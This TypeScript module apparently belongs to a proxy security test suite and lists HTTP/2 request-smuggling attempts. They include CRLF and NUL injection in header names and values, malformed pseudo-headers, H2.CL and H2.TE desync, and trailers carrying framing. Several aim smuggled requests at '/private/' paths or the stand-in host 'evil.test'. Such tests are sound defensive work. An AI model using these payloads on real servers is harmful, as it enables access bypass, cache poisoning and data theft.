/** Line ends where text goes: requests that become two. HTTP/2 carries what HTTP/1 could not (Kettle, 2021). */
import type {Attempt, Attacker} from '../attempt.ts';
import {SITES} from '../addresses.ts';
import {h2} from '../h2.ts';
import {http, say, tlsTo} from '../wire.ts';

type Field = readonly [string, string];

const way = (
  id: string,
  title: string,
  attempt: (by: Attacker) => Promise<unknown>,
  more: Partial<Attempt> = {},
): Attempt => ({
  id: `splitting-${id}`,
  title,
  invariant: 5,
  attempt: async (by) => void (await attempt(by)),
  control: 'free',
  ...more,
});

const inH2 = async (by: Attacker, ...frames: readonly Buffer[]): Promise<string> =>
  say(await tlsTo(by, SITES.allowed, 'allowed.test', {ALPNProtocols: ['h2']}), Buffer.concat([h2.open(), ...frames]));

const HEAD: readonly Field[] = [
  [':method', 'GET'],
  [':scheme', 'https'],
  [':authority', 'allowed.test'],
  [':path', '/public/a'],
];
/** The head of a good request with one field changed or added. */
const withField = (name: string, value: string): Field[] =>
  [...HEAD.filter(([had]) => had !== name), [name, value]].sort(
    ([a], [b]) => Number(b.startsWith(':')) - Number(a.startsWith(':')),
  ) as Field[];

/** One odd field in HTTP/2; its token is in the value. */
const odd = (id: string, title: string, field: (token: string) => Field): Attempt =>
  way(`h2-${id}`, `HTTP/2: ${title}`, (by) => inH2(by, h2.request(1, withField(...field(by.token)))));

const hidden = (token: string): string => http(`GET /private/${token} HTTP/1.1`, 'Host: allowed.test');

export const SPLITTING: readonly Attempt[] = [
  odd('value-crlf', 'a line end in a field’s value', (token) => ['x', `a\r\n\r\n${hidden(token)}`]),
  odd('value-lf', 'a bare LF in a field’s value', (token) => ['x', `a\nX-Token: ${token}`]),
  odd('value-nul', 'a NUL in a field’s value', (token) => ['x', `a\0${token}`]),
  odd('name-crlf', 'a line end in a field’s name', (token) => [`x: a\r\n\r\nget /private/${token}`, 'b']),
  odd('name-colon', 'a colon in a field’s name', (token) => [`transfer-encoding: chunked${token}`, 'b']),
  odd('name-space', 'a space in a field’s name', (token) => [`x ${token}`, 'b']),
  odd('name-upper', 'a field’s name in upper case', (token) => ['X-Upper', token]),
  odd('path-space', 'a space in :path', (token) => [':path', `/public/a HTTP/1.1\r\nX: ${token}`]),
  odd('path-space-only', 'a space and a second version in :path', (token) => [':path', `/public/${token} HTTP/1.1 x`]),
  odd('path-absolute', 'an absolute URL in :path', (token) => [':path', `https://evil.test/public/${token}`]),
  odd('path-no-slash', 'a :path without a slash', (token) => [':path', `@evil.test/${token}`]),
  odd('method-space', 'a request line in :method', (token) => [':method', `GET /private/${token} HTTP/1.1\r\nX:`]),
  odd('method-target', 'a target in :method', (token) => [':method', `GET /private/${token}`]),
  odd('scheme', 'a target in :scheme', (token) => [':scheme', `https://evil.test/${token}?`]),
  odd('authority-space', 'a space in :authority', (token) => [':authority', `allowed.test ${token}.evil.test`]),
  odd('authority-path', 'a path in :authority', (token) => [':authority', `allowed.test/${token}`]),
  odd('authority-userinfo', 'user information in :authority', (token) => [':authority', `${token}@allowed.test`]),
  odd('authority-crlf', 'a line end in :authority', (token) => [':authority', `allowed.test\r\nX: ${token}`]),
  odd('te', 'H2.TE: Transfer-Encoding in HTTP/2', (token) => ['transfer-encoding', `chunked ${token}`]),
  odd('te-underscore', 'Transfer_Encoding in HTTP/2', (token) => ['transfer_encoding', `chunked ${token}`]),
  odd('connection', 'Connection in HTTP/2', (token) => ['connection', token]),
  odd('unknown-pseudo', 'a pseudo field that does not exist', (token) => [':token', token]),
  way('h2-double-path', 'HTTP/2: :path twice', (by) =>
    inH2(by, h2.request(1, [...HEAD, [':path', `/private/${by.token}`]])),
  ),
  way('h2-double-authority', 'HTTP/2: :authority twice', (by) =>
    inH2(by, h2.request(1, [...HEAD, [':authority', `${by.token}.evil.test`]])),
  ),
  way('h2-late-pseudo', 'HTTP/2: a pseudo field behind ordinary ones', (by) =>
    inH2(
      by,
      h2.request(1, [
        [':method', 'GET'],
        [':scheme', 'https'],
        [':authority', 'allowed.test'],
        ['x', 'y'],
        [':path', `/private/${by.token}`],
      ]),
    ),
  ),
  way('h2-cl-short', 'H2.CL: a length that is shorter than the body', (by) =>
    inH2(by, h2.head(1, [...withField(':method', 'POST'), ['content-length', '0']]), h2.body(1, hidden(by.token))),
  ),
  way('h2-cl-long', 'H2.CL: a length that is longer than the body', (by) =>
    inH2(
      by,
      h2.head(1, [...withField(':method', 'POST'), ['content-length', '5000']]),
      h2.body(1, 'x'),
      h2.request(3, withField(':path', `/private/${by.token}`)),
    ),
  ),
  way('h2-cl-two', 'H2.CL: two lengths', (by) =>
    inH2(
      by,
      h2.head(1, [...withField(':method', 'POST'), ['content-length', '0'], ['content-length', '400']]),
      h2.body(1, hidden(by.token)),
    ),
  ),
  way('h2-trailer-framing', 'HTTP/2: trailers that carry framing', (by) =>
    inH2(
      by,
      h2.head(1, withField(':method', 'POST')),
      h2.body(1, 'x', false),
      h2.trailers(1, [
        ['transfer-encoding', 'chunked'],
        ['x-token', by.token],
      ]),
    ),
  ),
  way('h2-trailer-pseudo', 'HTTP/2: a pseudo field in the trailers', (by) =>
    inH2(
      by,
      h2.head(1, withField(':method', 'POST')),
      h2.body(1, 'x', false),
      h2.trailers(1, [
        [':path', `/private/${by.token}`],
        ['x', 'y'],
      ]),
    ),
  ),
  way('h2-get-body', 'HTTP/2: a body with GET that HTTP/1 would take for a request', (by) =>
    inH2(by, h2.head(1, [...HEAD, ['content-length', '0']]), h2.body(1, hidden(by.token))),
  ),
  way('mutation', 'a value that a mutation removes, with a line end in it', async (by) =>
    say(
      await tlsTo(by, SITES.mutated, 'mutated.test', {ALPNProtocols: ['http/1.1']}),
      `GET /public/a HTTP/1.1\r\nHost: mutated.test\r\nx-secret: a\rx-token: ${by.token}\r\n\r\n`,
    ),
  ),
  way('mutation-removed', 'a field that a mutation removes, in other letters and twice', async (by) =>
    say(
      await tlsTo(by, SITES.mutated, 'mutated.test', {ALPNProtocols: ['http/1.1']}),
      http('GET /public/a HTTP/1.1', 'Host: mutated.test', `X-SECRET: ${by.token}`, `x-Secret: ${by.token}`),
    ),
  ),
  way('mutation-set', 'a field that a mutation sets, sent by the client', async (by) =>
    say(
      await tlsTo(by, SITES.mutated, 'mutated.test', {ALPNProtocols: ['http/1.1']}),
      http('GET /public/a HTTP/1.1', 'Host: mutated.test', `X-Egress: ${by.token}`),
    ),
  ),
  way('hop-by-hop', 'a field for one connection only', async (by) =>
    say(
      await tlsTo(by, SITES.allowed, 'allowed.test', {ALPNProtocols: ['http/1.1']}),
      http(
        'GET /public/a HTTP/1.1',
        'Host: allowed.test',
        'Connection: x-hop',
        `X-Hop: ${by.token}`,
        `Proxy-Authorization: ${by.token}`,
        `Keep-Alive: ${by.token}`,
      ),
    ),
  ),
];
